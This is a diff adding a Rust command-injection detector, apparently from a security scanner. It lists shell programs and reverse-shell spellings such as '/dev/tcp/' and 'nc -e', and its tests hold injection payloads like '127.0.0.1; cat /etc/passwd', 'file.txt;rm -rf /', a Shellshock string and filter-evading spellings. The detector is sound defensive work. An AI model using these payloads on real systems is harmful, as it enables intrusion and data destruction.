@@ -1,0 +1,426 @@
+//! Commands for a shell: a separator or a substitution that a value brings along, and a command behind it.
+//!
+//! A line of shell by itself is content (CI steps, chats, documentation). What counts is a value that is short before the
+//! separator, as arguments are, and goes on with a program; and spellings that only hide a program's name.
+
+use std::sync::LazyLock;
+
+use super::{
+    Hit,
+    class::Class,
+    needles::{self, Needles, Words},
+    scan::Bits,
+    text::{Shape, Text, at, from, prose_words},
+};
+
+/// Programs whose names are no words of a sentence.
+static PROGRAMS: Words = LazyLock::new(|| {
+    needles::words(
+        "whoami ifconfig ipconfig netstat uname curl wget nc ncat netcat nslookup bash sh zsh ksh csh tcsh rbash \
+     perl python python2 python3 ruby php lua gcc chmod chown chgrp chroot passwd sudo su mkdir rmdir rm cp mv \
+     ln ls pwd ps tftp ftp scp sftp ssh telnet socat awk gawk sed grep egrep fgrep zgrep xargs tar gzip gunzip \
+     base64 xxd hexdump crontab systemctl iptables tcpdump nmap dig traceroute tracert tasklist taskkill \
+     systeminfo sysinfo powershell pwsh powershell.exe cmd cmd.exe wmic certutil bitsadmin rundll32 regsvr32 \
+     mshta cscript wscript icacls netsh getent useradd adduser userdel usermod busybox printenv lsof umount \
+     dmesg lsblk lastlog rsync gdb strace ltrace openssl nohup dir ver tac nl od ncat.exe lscpu lspci lsmod \
+     lsusb route arp hostname hostnamectl vmstat iostat pkill killall pgrep chsh chattr lsattr mkfifo mknod \
+     insmod modprobe mysqldump pg_dump sqlite3 psql redis-cli phpinfo ping6 ping.exe net.exe vim vi emacs nano \
+     pico ed ex rlogin rsh rexec shutdown reboot printf nice ionice setsid stdbuf tclsh expect irb jjs \
+     jrunscript gem rpm dpkg apt apt-get yum dnf apk pip pip3 npm docker kubectl perf tshark ss aria2c axel \
+     lynx w3m wall mail mailx sendmail ulimit umask unlink uptime capsh unshare nsenter pkexec doas runuser \
+     logname groups htop atop ansible",
+    )
+});
+
+/// Programs whose names are words: they need an argument that no sentence has.
+static WORDS: Words = LazyLock::new(|| {
+    needles::words(
+        "id cat find more less sort date time who type echo sleep kill head tail cut make test at host net env \
+     ping set export touch split join look last write file tree top free history finger copy del move start \
+     where which whereis locate exit exec eval source mount strings tee uniq wc node java go git reg attrib w \
+     users timeout screen tmux bind watch service command print read dash man diff patch install crash column \
+     fold paste link view mysql mongo",
+    )
+});
+
+/// Words of PowerShell, and spellings by which shells take each other over.
+static SPELLINGS: Needles = LazyLock::new(|| {
+    needles::build(&[
+        "${ifs",
+        "$ifs",
+        "/dev/tcp/",
+        "/dev/udp/",
+        "invoke-expression",
+        "invoke-webrequest",
+        "invoke-command",
+        "downloadstring(",
+        "downloadfile(",
+        "new-object net.",
+        "new-object system.net",
+        "start-process",
+        "() {",
+        "(){:",
+        "() { ",
+        "-encodedcommand",
+        "bash -i",
+        "nc -e",
+        "nc -l",
+        "ncat -e",
+        "/bin/sh",
+        "/bin/bash",
+        "/bin/cat",
+        "/bin/ls",
+        "/bin/id",
+        "/usr/bin/id",
+        "/bin/nc",
+        "/bin/ping",
+        "/bin/wget",
+        "/bin/curl",
+        "/bin/python",
+        "/bin/perl",
+        "cmd /c",
+        "cmd.exe",
+        "powershell -",
+        "powershell.exe",
+        "%comspec%",
+        "%systemroot%",
+        "$shell",
+        "${path:",
+        "${shell",
+        "<<<",
+        "get-childitem",
+        "get-process",
+        "get-content ",
+        "set-executionpolicy",
+        "iex(",
+        "iex (",
+    ])
+});
+
+/// Bytes of a value that are read. Overflow policy: what is behind is not.
+const MAX_BYTES: usize = 1_024;
+
+/// Separators of one value that are judged. Overflow policy: the first so many.
+const MAX_SEPARATORS: usize = 48;
+
+/// A command in this value.
+pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
+    let hit = |confidence, why| Some(Hit::new(Class::CommandInjection, confidence, why));
+    if text.is_content() {
+        return None;
+    }
+    let lower = text.lower.get(..MAX_BYTES).unwrap_or(text.lower);
+    let prose = text.shape == Shape::Prose;
+    let kinds = Bits::SHELL
+        .or(Bits::AMP)
+        .or(Bits::BRACE)
+        .or(Bits::QUOTE)
+        .or(Bits::CONTROL)
+        .or(Bits::ANGLE);
+    if text.bits.any(kinds)
+        && let Some(found) = separated(lower)
+    {
+        return hit(found.0, found.1);
+    }
+    if !prose && text.bits.any(Bits::QUOTE.or(Bits::BACKSLASH).or(Bits::BRACE)) && hidden(lower, 0) {
+        return hit(0.85, "a program whose name is hidden from filters");
+    }
+    let free = text.source == super::text::Source::FreeHeader;
+    let kinds = kinds
+        .or(Bits::SLASH)
+        .or(Bits::PAREN)
+        .or(Bits::PERCENT)
+        .or(Bits::SPACE);
+    if !prose
+        && text.bits.any(kinds)
+        && let Some((_, start, _)) = needles::find(&SPELLINGS, lower)
+        && (!free || start == 0 || lower.starts_with(b"()"))
+        && prose_words(lower.get(..start).unwrap_or_default(), 3) < 3
+    {
+        return hit(0.8, "a spelling that only commands have");
+    }
+    None
+}
+
+/// A separator or substitution with a program behind it.
+fn separated(lower: &[u8]) -> Option<(f32, &'static str)> {
+    let mut judged = 0;
+    let mut place = 0;
+    while place < lower.len() && judged < MAX_SEPARATORS {
+        let (length, kind) = separator(from(lower, place));
+        if length == 0 {
+            place += 1;
+            continue;
+        }
+        judged += 1;
+        let behind = place + length;
+        let blanks = from(lower, behind)
+            .iter()
+            .take_while(|byte| byte.is_ascii_whitespace() || matches!(**byte, b'(' | b'{'))
+            .count();
+        if is_argument(lower.get(..place).unwrap_or_default(), kind)
+            && runs(lower, behind + blanks, kind, place)
+        {
+            return Some((
+                if kind == Kind::Line { 0.7 } else { 0.85 },
+                "a value goes on with a command",
+            ));
+        }
+        place = behind;
+    }
+    None
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// `;`, `|`, `||`, `&&`.
+    Separator,
+    /// `&`, which queries and prose have, too.
+    Ampersand,
+    /// A line break.
+    Line,
+    /// `$(`, `<(`, `>(`.
+    Substitution,
+    /// A backtick: Markdown has them, too, behind a space.
+    Backtick,
+}
+
+fn separator(rest: &[u8]) -> (usize, Kind) {
+    match rest {
+        [b'$', b'(', b'(', ..] => (0, Kind::Substitution),
+        [b'$' | b'<' | b'>', b'(', ..] => (2, Kind::Substitution),
+        [b'$', b'{', ..] => (0, Kind::Substitution),
+        [b'`', ..] => (1, Kind::Backtick),
+        [b'|', b'|', ..] | [b'&', b'&', ..] | [b'|', b'&', ..] => (2, Kind::Separator),
+        [b';' | b'|', ..] => (1, Kind::Separator),
+        [b'&', ..] => (1, Kind::Ampersand),
+        [b'\n', ..] => (1, Kind::Line),
+        _ => (0, Kind::Separator),
+    }
+}
+
+/// Whether what stands before a separator is an argument, not a sentence or a command line.
+fn is_argument(before: &[u8], kind: Kind) -> bool {
+    let words = before
+        .split(|byte| byte.is_ascii_whitespace())
+        .filter(|word| !word.is_empty())
+        .count();
+    let spaced = before.last().is_some_and(u8::is_ascii_whitespace);
+    match kind {
+        Kind::Backtick => words == 0 || !spaced && words <= 2,
+        Kind::Substitution => words <= 2,
+        Kind::Line => words <= 1,
+        Kind::Separator | Kind::Ampersand => words <= 1 || prose_words(before, 2) < 1 && words <= 3,
+    }
+}
+
+/// Whether a program begins here and goes on like one.
+fn runs(lower: &[u8], start: usize, kind: Kind, separator: usize) -> bool {
+    if hidden(lower, start) {
+        return true;
+    }
+    let (word, end) = program(lower, start);
+    if word.is_empty() {
+        return false;
+    }
+    let next = at(lower, end);
+    let ends = matches!(
+        next,
+        0 | b';'
+            | b'|'
+            | b'&'
+            | b'`'
+            | b')'
+            | b'\n'
+            | b'\r'
+            | b'>'
+            | b'<'
+            | b'#'
+            | b'"'
+            | b'\''
+            | b'\\'
+            | b'}'
+    );
+    if !ends
+        && !next.is_ascii_whitespace()
+        && next != b'$'
+        && next != b'+'
+        && next != b'{'
+        && next != b'%'
+        && next != b','
+    {
+        return false;
+    }
+    let blanks = from(lower, end)
+        .iter()
+        .take_while(|byte| byte.is_ascii_whitespace() || **byte == b'+')
+        .count();
+    let argument = from(lower, end + blanks);
+    let technical = matches!(
+        argument.first(),
+        Some(
+            b'-' | b'/' | b'$' | b'%' | b'\\' | b'"' | b'\'' | b'>' | b'<' | b'.' | b'~' | b'*' | b'0'..=b'9'
+        )
+    ) || argument.starts_with(b"c:")
+        || argument.starts_with(b"http");
+    let known = |list: &Words| needles::is_one_of(list, &word);
+    if known(&PROGRAMS) {
+        // A short name after `&` in a query is a parameter: `&ls=1`.
+        return kind != Kind::Line || ends || technical;
+    }
+    if !known(&WORDS) || kind == Kind::Line && !technical {
+        return false;
+    }
+    let tight = separator == 0
+        || !at(lower, separator - 1).is_ascii_whitespace()
+        || at(lower, separator.saturating_sub(2)).is_ascii_digit();
+    if technical {
+        return kind != Kind::Ampersand || !argument.first().is_some_and(u8::is_ascii_digit) || tight;
+    }
+    ends && (blanks == 0 || argument.is_empty()) && tight && kind != Kind::Ampersand
+}
+
+/// The name of the program that begins here, without its directory and what hides it, and where it ends.
+fn program(lower: &[u8], start: usize) -> (Vec<u8>, usize) {
+    let mut word = Vec::new();
+    let mut place = start;
+    while place < lower.len() && word.len() < 32 {
+        match at(lower, place) {
+            b'/' => word.clear(),
+            byte @ (b'a'..=b'z' | b'0'..=b'9' | b'.' | b'_' | b'-') => word.push(byte),
+            // Shells drop these inside a word.
+            b'\'' | b'"' | b'\\' | b'^' if place > start || at(lower, place) != b'^' => {
+                if word.is_empty() && place > start + 1 {
+                    break;
+                }
+                // A quote that ends the value ends the word, too.
+                if !at(lower, place + 1).is_ascii_alphanumeric()
+                    && !matches!(at(lower, place + 1), b'\'' | b'"' | b'\\' | b'/')
+                {
+                    break;
+                }
+            }
+            b'$' if matches!(at(lower, place + 1), b'@' | b'*' | b'!') => place += 1,
+            _ => break,
+        }
+        place += 1;
+    }
+    (word, place)
+}
+
+/// Whether the word here spells a program in a way that only gets past filters: `c''at`, `c\at`, `/b?n/c*t`.
+fn hidden(lower: &[u8], start: usize) -> bool {
+    let length = from(lower, start)
+        .iter()
+        .take(64)
+        .take_while(|byte| {
+            !byte.is_ascii_whitespace()
+                && !matches!(byte, b';' | b'|' | b'&' | b')' | b'`' | b'<' | b'>' | b'=')
+        })
+        .count();
+    let word = from(lower, start).get(..length).unwrap_or_default();
+    let inner = word.get(1..).unwrap_or_default();
+    let empties = memchr::memmem::find(inner, b"''").is_some()
+        || memchr::memmem::find(inner, b"\"\"").is_some()
+        || memchr::memmem::find(inner, b"$@").is_some()
+        || memchr::memmem::find(inner, b"$*").is_some();
+    let slashes = inner
+        .windows(3)
+        .any(|three| matches!(three, [a, b'\\', b] if a.is_ascii_lowercase() && b.is_ascii_lowercase()));
+    let quotes = word
+        .windows(3)
+        .filter(|three| matches!(three, [b'\'' | b'"', b, b'\'' | b'"'] if b.is_ascii_lowercase()))
+        .count()
+        >= 1;
+    if empties || slashes || quotes {
+        let plain: Vec<u8> = word
+            .iter()
+            .copied()
+            .filter(|byte| !matches!(byte, b'\'' | b'"' | b'\\' | b'$' | b'@' | b'*'))
+            .collect();
+        let name = plain.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
+        if name.len() >= 2 && (needles::is_one_of(&PROGRAMS, name) || needles::is_one_of(&WORDS, name)) {
+            return true;
+        }
+    }
+    // Globs in place of letters of a path.
+    let globs = word
+        .iter()
+        .filter(|byte| matches!(byte, b'?' | b'*' | b'['))
+        .count();
+    word.starts_with(b"/")
+        && globs >= 2
+        && word.iter().filter(|byte| **byte == b'/').count() >= 2
+        && !word.contains(&b'.')
+        && !word.contains(&b'=')
+        && word.len() <= 40
+        && memchr::memmem::find(word, b"**").is_none()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analysis::signature::text::Source;
+
+    fn is_command(value: &str) -> bool {
+        let lower = value.to_ascii_lowercase();
+        detect(&Text::new(value.as_bytes(), lower.as_bytes(), Source::Query)).is_some()
+    }
+
+    #[test]
+    fn commands_behind_a_value_are_found() {
+        for value in [
+            "127.0.0.1; cat /etc/passwd",
+            "x|id",
+            "x && whoami",
+            "; sleep 10",
+            "$(id)",
+            "`uname -a`",
+            "a;c''at /x",
+            "& ping -n 3 127.0.0.1 &",
+            "x;/bin/ls -la",
+            "|/usr/bin/id|",
+            "a${IFS}b",
+            "() { :;}; echo x",
+            "x\nwget http://x.test/a",
+            "file.txt;rm -rf /",
+            "a & type %SYSTEMROOT%\\win.ini",
+            "test`curl x.test`",
+            "ti''me sh -c x",
+            ";c\\at /e",
+            "1;/???/c?t /x",
+        ] {
+            assert!(is_command(value), "{value}");
+        }
+    }
+
+    #[test]
+    fn shell_as_content_is_not() {
+        for value in [
+            "R&D; time will tell",
+            "cats & dogs",
+            "AT&T",
+            "Tom & Jerry; find them here",
+            "npm run build && npm test",
+            "run `cargo test` before you push",
+            "please use `ls` to list files; then cat the output",
+            "a; b; c",
+            "Home | Find | Top",
+            "https://example.test/?a=b&id=5&sort=date&cat=9",
+            "text/html; charset=utf-8",
+            "red|green|blue",
+            "Smith & Sons; date unknown",
+            "it costs $(100)",
+            "x -> y | z",
+            "f(x) = `x`",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko",
+            "curl -s https://example.test/install.sh",
+            "q&a",
+            "name\nfile",
+            "5 > 3 && 2 < 4",
+            "/api/*/items?x=*",
+        ] {
+            assert!(!is_command(value), "{value}");
+        }
+    }
+}
